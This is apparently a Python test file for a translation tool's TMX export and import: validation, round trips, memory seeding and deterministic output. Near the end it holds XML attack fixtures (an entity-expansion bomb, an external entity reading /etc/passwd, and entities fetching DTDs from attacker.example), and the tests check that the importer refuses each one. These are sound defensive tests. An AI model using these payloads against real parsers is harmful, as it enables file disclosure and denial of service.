"""TMX 1.4b: approved translations out (validated by the DTD, read by Translate Toolkit), agencies' memories in."""

from __future__ import annotations

import shutil
import subprocess
from contextlib import redirect_stdout
from io import StringIO
from pathlib import Path

import pytest
from conftest import DATA, require, snapshot

from workflow import parallel
from workflow.catalogs import read_catalog, write_catalog
from workflow.cli import main
from workflow.config import load_config
from workflow.exchange import tmx
from workflow.exchange.tmx import ExchangeError, Unit
from workflow.memory import Memory, Record
from workflow.translate import translate_catalogs

DTD = DATA / "schemas" / "tmx14.dtd"
EMAILS = ("ana.lopez", "piotr.nowak", "layla.haddad", "sam.carter", "@example.org")


def validate(tmp_path: Path, data: bytes) -> None:
    """``xmllint --dtdvalid`` against the LISA DTD (a copy beside the file, where its DOCTYPE points)."""
    xmllint = require("xmllint")
    shutil.copy(DTD, tmp_path / "tmx14.dtd")
    (tmp_path / "out.tmx").write_bytes(data)
    result = subprocess.run([xmllint, "--noout", "--nonet", "--dtdvalid", str(DTD), str(tmp_path / "out.tmx")],
                            capture_output=True, text=True)
    assert result.returncode == 0 and not result.stderr, result.stderr


def pairs(data: bytes) -> set[tuple[str, str, str]]:
    units, _ = tmx.read_units(data, "<test>", "en")
    return {(unit.lang, unit.source, unit.target) for unit in units}


def agency(*units: tuple[str, str, str], doctype: str = '<!DOCTYPE tmx SYSTEM "tmx14.dtd">') -> bytes:
    """A TMX as a CAT tool writes it: en-GB source, regional targets, an inline code in one segment."""
    tus = "".join(f'<tu tuid="{n}"><tuv xml:lang="en-GB"><seg>{source}</seg></tuv>'
                  f'<tuv xml:lang="{lang}"><seg>{target}</seg></tuv></tu>\n'
                  for n, (lang, source, target) in enumerate(units))
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<tmx version="1.4">\n'
            '<header creationtool="SDL Trados" creationtoolversion="17" segtype="sentence" o-tmf="SDLX" '
            f'adminlang="en-GB" srclang="en-GB" datatype="xml"/>\n<body>\n{tus}</body>\n</tmx>\n').encode("utf-8")


@pytest.fixture
def bare_project(project: Path) -> Path:
    """The tiny project extracted and updated: every catalog empty."""
    with redirect_stdout(StringIO()):
        assert main(["--project", str(project), "extract"]) == 0
        assert main(["--project", str(project), "update"]) == 0
    return project


def test_the_export_holds_exactly_the_approved_entries_and_validates(site_project, tmp_path):
    config = load_config(site_project)
    path = config.po_path("es", "sleep-and-pain")
    po = read_catalog(path)
    edited = next(e for e in po if e.msgid == "Keep regular hours.")
    edited.msgstr = "Mantenga horarios regulares."         # its approval no longer holds: pending
    write_catalog(po, path)
    data = tmx.export(config)
    validate(tmp_path, data)
    exported = pairs(data)
    assert ("es", "Keep regular hours.", "Mantenga un horario regular.") not in exported
    assert ("es", "Keep regular hours.", "Mantenga horarios regulares.") not in exported
    assert ("pl", "Keep regular hours.", "Należy zachować stałe godziny snu.") in exported
    assert {lang for lang, _, _ in exported} == {"es", "es-US", "pl", "ar", "en-US"}
    text = data.decode("utf-8")
    assert not any(email in text for email in EMAILS)         # reviewers by their declared names only
    assert 'creationid="Dr Ana López"' in text and 'srclang="en"' in text and 'o-tmf="Locum"' in text
    assert '<prop type="x-locum-article">sleep-and-pain</prop>' in text


def test_the_export_can_be_narrowed_and_is_stable(site_project):
    config = load_config(site_project)
    data = tmx.export(config, "pl-GB", "sleep-and-pain")
    assert {lang for lang, _, _ in pairs(data)} == {"pl"}
    assert data == tmx.export(config, "pl-GB", "sleep-and-pain")
    assert b"x-locum-article\">pain-relief" not in data


def test_the_export_is_the_same_on_every_core(site_project, monkeypatch):
    config = load_config(site_project)
    monkeypatch.setenv("LOCUM_WORKERS", "1")
    serial = tmx.export(config)
    monkeypatch.setattr(parallel, "MIN_ITEMS", 1)
    monkeypatch.setenv("LOCUM_WORKERS", "2")
    assert tmx.export(config) == serial and b"<tu" in serial


def test_translate_toolkit_reads_the_export(site_project):
    storage = pytest.importorskip("translate.storage.tmx")
    data = tmx.export(load_config(site_project), "es")
    store = storage.tmxfile.parsestring(data)
    units, _ = tmx.read_units(data, "<test>", "en")
    assert [(unit.source, unit.target) for unit in store.units] == [(unit.source, unit.target) for unit in units]
    assert len(units) > 5


def test_our_export_round_trips_through_an_import(site_project, tmp_path):
    config = load_config(site_project)
    exported = tmx.export(config)
    (tmp_path / "ours.tmx").write_bytes(exported)
    report = tmx.import_file(config, tmp_path / "ours.tmx", name="locum")
    stored = site_project / "locales" / "memory" / "locum.tmx"
    assert report.written and report.stored == "locales/memory/locum.tmx"
    assert pairs(stored.read_bytes()) == pairs(exported)
    assert report.total == len(pairs(exported))
    again = tmx.import_file(config, tmp_path / "ours.tmx", name="locum")
    assert not again.written                                  # the same memory again: the same bytes
    validate(tmp_path, stored.read_bytes())


def test_an_agency_memory_seeds_translate_with_provenance(bare_project, tmp_path):
    config = load_config(bare_project)
    (tmp_path / "agency.tmx").write_bytes(agency(
        ("es-ES", "Keep regular hours.", "Mantenga un horario regular."),
        ("es-ES", "Avoid screens late at night!", "Evite las pantallas por la noche."),
        ("es-ES", "Sleep <ph>&lt;b&gt;</ph>and<ph>&lt;/b&gt;</ph> pain", "El sueño y el dolor"),
        ("fr-FR", "Keep regular hours.", "Gardez des horaires réguliers."),
        ("pl-PL", "Sleep and pain", "Sen i ból")))
    report = tmx.import_file(config, tmp_path / "agency.tmx")
    assert report.pairs == {"es-ES": 3, "pl-PL": 1}
    assert report.skipped == {"language fr-FR is not one of the project's": 1}
    translate_catalogs(config, "es", provider="memory")
    po = read_catalog(config.po_path("es", "sleep-and-pain"))
    by_id = {entry.msgid: entry for entry in po}
    exact, near = by_id["Keep regular hours."], by_id["Avoid screens late at night."]
    assert exact.msgstr == "Mantenga un horario regular." and "fuzzy" in exact.flags
    assert "tm: 100% memory/agency.tmx" in exact.tcomment
    assert near.msgstr == "Evite las pantallas por la noche." and "fuzzy" in near.flags
    assert "memory/agency.tmx" in near.tcomment and "tm: 100%" not in near.tcomment
    assert by_id["Sleep and pain"].msgstr == "El sueño y el dolor"        # the inline codes' markup left out


def test_the_projects_own_translations_rank_before_an_imported_memory():
    found = [Record(("agency",), "memory/agency.tmx", None, False, imported=True),
             Record(("pending",), "es/other", None, False), Record(("approved",), "es/other", None, True)]
    memory = Memory({("Pain", None): found}, "es")
    assert [record.forms[0] for record in memory.exact["Pain", None]] == ["approved", "pending", "agency"]


def test_a_dry_run_reports_and_writes_nothing(bare_project, tmp_path):
    (tmp_path / "agency.tmx").write_bytes(agency(("pl", "Sleep and pain", "Sen i ból")))
    before = snapshot(bare_project)
    report = tmx.import_file(load_config(bare_project), tmp_path / "agency.tmx", dry_run=True)
    assert report.pairs == {"pl": 1} and not report.written
    assert snapshot(bare_project) == before


BOMB = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>&c;</seg></tuv></tu></body></tmx>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd" [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>&secret;</seg></tuv></tu></body></tmx>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<tmx version="1.4"><header/><body/></tmx>
"""
OTHER_DTD = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "http://attacker.example/tmx14.dtd">
<tmx version="1.4"><header/><body/></tmx>
"""
MALFORMED = """<?xml version="1.0"?>
<tmx version="1.4"><header/><body>
<tu><tuv xml:lang="en"><seg>Pain</tuv></tu>
</body></tmx>
"""
NOT_TMX = """<?xml version="1.0"?>
<xliff version="1.2"/>
"""


@pytest.mark.parametrize("text, message, line", [
    (BOMB, "refused DOCTYPE tmx with declarations", 2),
    (EXTERNAL, "refused DOCTYPE tmx tmx14.dtd with declarations", 2),
    (PARAMETER, "refused DOCTYPE tmx", 2),
    (OTHER_DTD, "refused DOCTYPE tmx http://attacker.example/tmx14.dtd", 2),
    (MALFORMED, "not well-formed XML: mismatched tag", 3),
    (NOT_TMX, "not a TMX document (root <xliff>", 2),
], ids=["bomb", "external-entity", "parameter-entity", "other-dtd", "malformed", "not-tmx"])
def test_dangerous_or_broken_files_are_refused_and_nothing_is_written(bare_project, tmp_path, text, message, line):
    bad = tmp_path / "bad.tmx"
    bad.write_text(text, encoding="utf-8")
    before = snapshot(bare_project)
    with pytest.raises(ExchangeError) as caught:
        tmx.import_file(load_config(bare_project), bad)
    assert message in caught.value.message
    assert caught.value.path == str(bad) and caught.value.line == line
    assert snapshot(bare_project) == before


def test_an_exported_unit_is_what_the_pure_writer_makes():
    data = tmx.tmx_bytes([Unit("Pain & <fever>", "es", "Dolor y fiebre", "x", "menu", "2026-11-22T10:15:03Z",
                               "Dr Ana López")], "en")
    assert b"Pain &amp; &lt;fever&gt;" in data and b'creationdate="20261122T101503Z"' in data
    assert b'<prop type="x-locum-context">menu</prop>' in data
    assert pairs(data) == {("es", "Pain & <fever>", "Dolor y fiebre")}
